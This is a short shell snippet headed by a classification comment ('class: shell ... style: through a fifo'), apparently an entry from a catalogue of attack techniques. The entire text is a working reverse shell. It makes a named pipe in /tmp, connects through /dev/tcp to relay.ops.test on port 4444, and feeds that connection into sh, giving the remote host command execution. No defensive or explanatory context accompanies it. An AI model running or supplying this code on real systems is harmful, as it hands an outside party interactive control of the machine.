# class: shell; possible: low medium; style: through a fifo
cd /tmp
mkfifo p
exec 3<>/dev/tcp/relay.ops.test/4444
cat <&3 > p &
sh < p >&3 2>&3
